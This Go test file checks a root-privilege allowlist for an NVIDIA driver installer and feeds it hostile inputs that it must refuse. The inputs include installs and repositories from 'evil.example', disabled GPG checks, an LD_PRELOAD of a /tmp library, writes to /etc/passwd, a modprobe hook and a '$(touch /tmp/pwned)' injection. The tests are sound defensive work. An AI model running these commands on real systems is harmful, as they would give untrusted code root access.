//go:build linux

package apply

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"envfix/installers"
	"envfix/internal/fail"
	"envfix/internal/machine"
	"envfix/internal/plan"
	"envfix/internal/system"
	"envfix/internal/version"
	"envfix/matrix"
	"envfix/resolver"

	"github.com/google/go-cmp/cmp"
)

// A fresh machine of each distribution: every step for root that is planned for
// it may run as root, and the program is one of the distribution's.
func TestDriverStepsMayRunAsRoot(t *testing.T) {
	m := matrix.Embedded()
	tests := []struct{ distro, like, version, program string }{
		{"ubuntu", "debian", "22.04", "apt-get"}, {"ubuntu", "debian", "24.04", "apt-get"}, {"linuxmint", "ubuntu debian", "22", "apt-get"},
		{"debian", "", "12", "apt-get"}, {"debian", "", "13", "apt-get"},
		{"rhel", "fedora", "8.10", "dnf"}, {"rocky", "rhel centos fedora", "9.6", "dnf"}, {"rhel", "fedora", "10.0", "dnf"}, {"amzn", "fedora", "2023", "dnf"}, {"fedora", "", "43", "dnf"}, {"fedora", "", "44", "dnf"},
		{"sles", "suse", "15.7", "zypper"}, {"opensuse-leap", "suse opensuse", "15.6", "zypper"},
	}
	for _, tt := range tests {
		t.Run(tt.distro+" "+tt.version, func(t *testing.T) {
			p := driverPlan(t, m, tt.distro, tt.like, tt.version)
			bare := driverPlan(t, m, tt.distro, tt.like, tt.version, func(h *machine.Machine) { // without any Python
				h.Pythons, h.Tools = nil, []machine.Tool{{Name: tt.program, Path: "/usr/bin/" + tt.program}}
			})
			if !slices.ContainsFunc(bare.Steps, func(s plan.Step) bool { return s.Root && s.ID == "python" }) {
				t.Errorf("no step brings a Python: %+v", bare.Steps)
			}
			r := run{plan: p, Options: Options{Tools: "/home/me/.local/state/envfix/tools"}, env: &Env{Dir: "/home/me/project/.venv"}}
			programs := map[string]bool{}
			for _, s := range slices.Concat(p.Steps, bare.Steps) {
				if !s.Root {
					continue
				}
				if err := CheckRoot(r.filled(s)); err != nil {
					t.Errorf("%s: %v", s.ID, err)
				}
				if s.Run != nil {
					programs[s.Run.Argv[0]] = true
				}
			}
			if !programs[tt.program] {
				t.Errorf("programs for root: %v, want %s among them", programs, tt.program)
			}
			if script := RootScript(p); script.Err() != nil || !strings.Contains(script.String(), tt.program) || strings.Contains(script.String(), `"$gen"`) {
				t.Errorf("the administrator's script: %v\n%s", script.Err(), script)
			}
		})
	}
}

// driverPlan plans for a machine with an RTX 4060 and no driver.
func driverPlan(t *testing.T, m *matrix.Matrix, distro, like, release string, change ...func(*machine.Machine)) *plan.Plan {
	t.Helper()
	h := machine.Machine{
		Platform: machine.Platform{OS: "linux", Arch: "x86_64", Distro: distro, DistroLike: like, DistroVersion: release, Kernel: "6.8.0-45-generic",
			Libc: &machine.Libc{Kind: "glibc", Version: version.MustDotted("2.36")}, Environment: machine.Bare},
		Privilege: "sudo",
		GPUs:      []machine.GPU{{Vendor: machine.NVIDIA, Name: "RTX 4060", SM: machine.MustSM("8.9"), PCIID: "10de:2882"}},
		Pythons:   []machine.Python{{Version: "3.12.4", Path: "/usr/bin/python3"}},
	}
	for _, c := range change {
		c(&h)
	}
	req := resolver.Request{Today: "2026-11-21"}
	res, err := resolver.Resolve(m, h, req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Decision != resolver.FixDriver {
		t.Fatalf("decision %s, want %s", res.Decision, resolver.FixDriver)
	}
	p, err := installers.Plan(m, h, req, res, plan.Target{Dir: ".venv"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// What envfix writes of NVIDIA's repositories.
const (
	nvidiaRHEL9 = "https://developer.download.nvidia.com/compute/cuda/repos/rhel9/x86_64"
	rhel9       = "[cuda-rhel9-x86_64]\nname=cuda-rhel9-x86_64\nbaseurl=" + nvidiaRHEL9 + "\nenabled=1\ngpgcheck=1\n"
	debian11    = "deb [signed-by=/usr/share/keyrings/cuda-archive-keyring.gpg] https://developer.download.nvidia.com/compute/cuda/repos/debian11/sbsa/ /\n"
)

// What may not run as root, whoever asks for it.
func TestThreat11RootMisuse(t *testing.T) {
	for _, argv := range [][]string{
		{"sh", "-c", "true"}, {"/tmp/apt-get", "update"}, {"./apt-get", "update"}, {"bash"}, {"pip", "install", "torch"}, {"python3", "-m", "pip"},
		{"apt-get", "install", "-y", "--", "nvidia-open"}, {"apt-get", "install", "-y", "./evil.deb"}, {"apt-get", "install", "-y", "/tmp/evil.deb"},
		{"apt-get", "install", "-o", "Dpkg::Pre-Install-Pkgs::=/tmp/x", "nvidia-open"}, {"apt-get", "install", "-oAPT::Update::Pre-Invoke::=x", "nvidia-open"},
		{"apt-get", "install"}, {"apt-get", "source", "x1"}, {"apt-get", "install", "-c", "/tmp/apt.conf", "nvidia-open"}, {"apt-get", "install", "-o"},
		{"dpkg", "--install", "/tmp/evil.deb"}, {"dpkg", "--install", "/home/me/cuda-keyring_1.1-1_all.deb"}, {"dpkg", "-i", "x"}, {"dpkg", "--configure", "-a"},
		{"apt-get", "install", "coreutils-"}, {"apt-get", "install", "nvidia-open-"}, {"apt-get", "install", "nvidia-open+"}, {"apt-get", "install", "sl"}, {"apt-get", "install", "nvidia-open/sid"},
		{"apt-get", "install", "nvidia.*"}, {"apt-get", "install", "linux-headers-6.1.0-30-amd64-"}, {"apt-get", "install", "nvidia-container-toolkit"},
		{"apt-get", "remove", "lib."}, {"apt-get", "remove", "linux-headers-6.1.0-30-amd64"}, {"apt-get", "remove", "-y", "nvidia-open", "openssh-server"},
		{"apt-get", "install", "--allow-downgrades", "linux-headers-6.1.0-30-amd64=6.1.1-1"}, {"apt-mark", "hold", "openssl"}, {"apt-mark", "unhold", "linux-image-amd64"},
		{"dnf", "install", "-y", "evil.rpm"}, {"dnf", "install", "-y", "nvidia-open.rpm"}, {"dnf", "install", "-y", "nvidia-1.rpm"}, {"dnf", "install", "-y", "@development"}, {"dnf", "install", "-y", "nvidia-*"},
		{"dnf", "install", "-y", "./nvidia-open"}, {"dnf", "remove", "-y", "kernel"}, {"dnf", "versionlock", "add", "*"}, {"dnf", "versionlock", "add", "*ssl*"}, {"dnf", "module", "enable", "-y", "evil:1"},
		{"dnf", "install", "-y", "--allowerasing", "kernel-devel-5.14.0"},
		{"zypper", "--non-interactive", "install", "evil.rpm"}, {"zypper", "--non-interactive", "install", "nvidia-open-580.rpm"}, {"zypper", "--non-interactive", "install", "sudo=1"}, {"zypper", "--non-interactive", "addlock", "openssl"},
		{"systemctl", "stop", "unattended-upgrades"},
		{"gpg", "--batch", "--yes", "--dearmor", "--output", "/etc/passwd", "/tmp/3BF863CC.pub"}, {"gpg", "--batch", "--yes", "--dearmor", "--output", "/usr/share/keyrings/cuda-archive-keyring.gpg", "/tmp/x"},
		{"dnf", "install", "-y", "https://evil.example/x.rpm"}, {"dnf", "install", "--setopt=tsflags=noscripts", "x"},
		{"dnf", "config-manager", "--add-repo", "https://evil.example/cuda.repo"}, {"dnf", "makecache", "--setopt=gpgcheck=0"}, {"dnf", "module", "install", "-y", "evil:1"},
		{"zypper", "addrepo", "--refresh", "https://evil.example/cuda.repo"}, {"zypper", "--gpg-auto-import-keys", "refresh"}, {"zypper", "--non-interactive", "refresh", "evil"},
		{"zypper", "--non-interactive", "install", "--no-gpg-checks", "x1"}, {"zypper", "--non-interactive", "--root", "/tmp", "install", "x1"},
		{"rpm", "--import", "https://evil.example/D42D0685.pub"}, {"rpm", "-i", "/tmp/x.rpm"}, {"rpm", "--import", "/tmp/evil.pub"}, {"rpm", "--import", "/tmp/D42D0685.pub", "/tmp/x.pub"},
		{"apt-get", "install", "-y", "--allow-change-held-packages", "nvidia-open"},
		{"modprobe", "evil"}, {"modprobe", "nvidia", "NVreg_x=1"}, {"modprobe", "-C", "/tmp/x", "nvidia"}, {"systemctl", "start", "evil"}, {"update-initramfs", "-u", "-k", "x"},
	} {
		if err := CheckRoot(plan.Step{ID: "driver", Root: true, Run: &plan.Run{Argv: argv}}); err == nil {
			t.Errorf("%q may run as root", argv)
		}
	}
	for _, s := range []plan.Step{
		{Run: &plan.Run{Argv: []string{"apt-get", "update"}, Env: map[string]string{"LD_PRELOAD": "/tmp/x.so"}}},
		{Run: &plan.Run{Argv: []string{"apt-get", "update"}, Env: map[string]string{"DEBIAN_FRONTEND": "dialog"}}},
		{Run: &plan.Run{Argv: []string{"apt-get", "update"}, Dir: "/tmp"}},
		{Write: &plan.Write{Path: "/etc/passwd"}}, {Write: &plan.Write{Path: "/etc/apt/preferences.d/../../passwd"}}, {Write: &plan.Write{Path: "/etc/modprobe.d/evil.conf"}},
		{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia.conf", Mode: 0o644, Content: "install nvidia /tmp/evil\n"}},
		{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia.conf", Mode: 0o4755, Content: "blacklist nouveau\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nbaseurl=https://evil.example/\ngpgcheck=1\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nbaseurl=https://developer.download.nvidia.com.evil.example/compute/cuda/repos/rhel9/x86_64\ngpgcheck=1\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\ngpgcheck=0\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nenabled=1\n"}},
		{Write: &plan.Write{Path: "/etc/apt/sources.list.d/cuda-debian12-x86_64.list", Mode: 0o644, Content: "deb [trusted=yes] https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64/ /\n"}},
		{Write: &plan.Write{Path: "/etc/apt/sources.list.d/evil.list", Mode: 0o644, Content: "deb [signed-by=" + plan.Keyring + "] https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64/ /\n"}},
		// an administrator's own, whose names begin alike
		{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia.conf", Mode: 0o644}}, {Write: &plan.Write{Path: "/etc/modprobe.d/nvidia-options.conf", Mode: 0o644, Content: "# gone\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/nvidia-container-toolkit.repo", Mode: 0o644, Content: rhel9}}, {Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel8.repo", Mode: 0o644, Content: rhel9}},
		// one section that is checked does not speak for another
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9 + strings.ReplaceAll(strings.ReplaceAll(rhel9, "gpgcheck=1\n", ""), "rhel9", "rhel8")}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9 + "gpgkey=https://developer.download.nvidia.com/compute/cuda/repos/rhel8/x86_64/D42D0685.pub\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9 + "gpgkey=" + nvidiaRHEL9 + "/D42D0685.pub\ngpgcheck=0\n"}},
		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o600, Content: rhel9}},
		{Write: &plan.Write{Path: "/etc/apt/sources.list.d/cuda-debian12-x86_64.list", Mode: 0o644, Content: debian11}},
		{Write: &plan.Write{Path: "/var/lib/envfix/held", Mode: 0o644, Content: "$(touch /tmp/pwned)\n"}}, {Write: &plan.Write{Path: "/var/lib/envfix/../../etc/passwd", Mode: 0o644}},
		{Block: &plan.Block{Path: "/root/.bashrc"}}, {Switch: &plan.Switch{Dir: "/"}}, {},
	} {
		if err := CheckRoot(s); err == nil {
			t.Errorf("%+v may run as root", s)
		}
	}
	for _, w := range []plan.Write{
		{Path: "/etc/modprobe.d/envfix-nouveau.conf", Mode: 0o644, Content: "blacklist nouveau\noptions nouveau modeset=0\n"},
		{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9}, {Path: "/etc/zypp/repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9},
		{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: rhel9 + "gpgkey=" + nvidiaRHEL9 + "/D42D0685.pub\n"},
		{Path: "/etc/apt/sources.list.d/cuda-debian11-sbsa.list", Mode: 0o644, Content: debian11},
	} {
		if err := CheckRoot(plan.Step{Write: &w}); err != nil {
			t.Error(err)
		}
	}
}

// What the package manager would take away is asked by root's half itself: a plan
// that names no rehearsal, and one that allows everything, are refused alike.
func TestThreat11RootRehearses(t *testing.T) {
	for _, d := range some() {
		t.Run(d.name, func(t *testing.T) {
			s := newStandIn(t, t.TempDir(), d)
			s.install(t, had("570.211.01", "proprietary")(d)...)
			p := s.plan(t, d, "upgrade", "580", "open")
			s.set(t, "state/desktop", "gnome-shell\n")
			before := s.read("state/installed")
			for _, step := range p.Steps {
				if step.ID != "driver" && step.ID != "driver-prepare-1" && step.ID != "driver-download" {
					continue
				}
				err := s.host().direct(context.Background(), step, io.Discard, nil)
				if step.ID != "driver" {
					continue // what comes before it is as it was
				}
				if kind(t, err) != fail.Preflight || !strings.Contains(fmt.Sprint(err), "would remove") {
					t.Errorf("got %v", err)
				}
			}
			if diff := cmp.Diff(before, s.read("state/installed")); diff != "" {
				t.Errorf("installed (-before +after):\n%s", diff)
			}
		})
	}
}

// What a package manager might take for a file of the caller's directory is none:
// root's commands start in /.
func TestThreat11RootStartsElsewhere(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	if err := errors.Join(os.Mkdir("programs", 0o755), os.WriteFile("programs/modprobe", []byte("#!/bin/sh\npwd > "+dir+"/where\n"), 0o755)); err != nil {
		t.Fatal(err)
	}
	step := plan.Step{ID: "x", Run: &plan.Run{Argv: []string{"modprobe", "nvidia"}}}
	if err := (host{programs: dir + "/programs"}).direct(context.Background(), step, io.Discard, nil); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile("where"); err != nil || string(b) != "/\n" {
		t.Errorf("it ran in %q, %v", b, err)
	}
}

// The key of a repository is taken by its fingerprint, whatever its file is called,
// and what lies in the file's place afterwards is of no interest.
func TestThreat14AptKey(t *testing.T) {
	key, err := filepath.Abs("../system/testdata/key.asc")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	file := dir + "/3BF863CC.pub"
	if err := os.Symlink(key, file); err != nil {
		t.Fatal(err)
	}
	step := plan.Step{ID: "x", Run: &plan.Run{Argv: []string{"gpg", "--batch", "--yes", "--dearmor", "--output", plan.Keyring, file}}}
	for _, program := range []string{"gpg", "/usr/bin/gpg"} {
		step.Run.Argv[0] = program
		if err := (host{root: dir}).direct(context.Background(), step, io.Discard, nil); kind(t, err) != fail.Integrity {
			t.Errorf("%s, a key that is not NVIDIA's: %v", program, err)
		}
	}
	for _, program := range []string{"rpm", "/usr/bin/rpm", "/bin/rpm"} {
		rpm := plan.Step{ID: "x", Run: &plan.Run{Argv: []string{program, "--import", file}}}
		if err := (host{root: dir}).direct(context.Background(), rpm, io.Discard, nil); kind(t, err) != fail.Integrity {
			t.Errorf("%s, a key that is not NVIDIA's: %v", program, err)
		}
	}
	if _, err := os.Stat(dir + plan.Keyring); !gone(err) {
		t.Errorf("it was written: %v", err)
	}
	if err := (host{root: dir, keys: map[string]string{"3BF863CC": keyPrint}}).direct(context.Background(), step, io.Discard, nil); err != nil {
		t.Fatal(err)
	}
	written, err := os.ReadFile(dir + plan.Keyring)
	if err != nil {
		t.Fatal(err)
	}
	if got, _, err := system.PublicKey(written); err != nil || got != keyPrint || written[0]&0x80 == 0 {
		t.Errorf("written: %s, %v", got, err)
	}
}

// Whatever JSON root's half is fed, it runs only what is on the list.
func FuzzCheckRoot(f *testing.F) {
	f.Add([]byte(`{"id":"driver","root":true,"run":{"argv":["apt-get","update"],"env":{}}}`))
	f.Add([]byte(`{"id":"x","write":{"path":"/etc/modprobe.d/nvidia.conf","mode":420,"content":"blacklist nouveau\n"}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		var s plan.Step
		if json.Unmarshal(b, &s) != nil || CheckRoot(s) != nil {
			return
		}
		if s.Write != nil {
			if !strings.HasPrefix(s.Write.Path, "/etc/") && s.Write.Path != heldRecord || strings.Contains(s.Write.Path, "..") {
				t.Errorf("root may write %q", s.Write.Path)
			}
			return
		}
		if _, known := rootVerbs[filepath.Base(s.Run.Argv[0])]; !known {
			t.Errorf("root may run %q", s.Run.Argv)
		}
		for _, a := range s.Run.Argv {
			if strings.ContainsAny(a, "\x00\n;|&$`") {
				t.Errorf("root may be given %q", a)
			}
		}
	})
}
